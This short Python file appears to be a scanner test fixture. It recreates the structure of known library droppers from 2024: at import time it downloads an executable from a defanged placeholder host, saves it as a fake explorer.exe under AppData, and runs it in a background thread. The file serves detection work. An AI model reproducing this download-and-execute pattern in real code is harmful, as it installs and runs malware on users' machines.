# Shape of the "colorized"/"genui" droppers (2024): a vendored library with a
# module-level path, one function that downloads an executable to it and
# another, started in a thread, that runs it. Defanged: example.invalid.
import os
import subprocess
import threading

import requests

path = os.environ.get("USERPROFILE", "") + "\\AppData\\Local\\explorer.exe"


def process():
    if os.path.exists(path):
        subprocess.run(path, shell=True)  # expect: HS107 critical


def download():
    response = requests.get("https://cdn.example.invalid/attachments/1/main.exe")
    if response.status_code != 200:
        return
    with open(path, "wb") as file:
        file.write(response.content)


def execute():
    thread = threading.Thread(target=process)
    thread.start()


download(); execute()
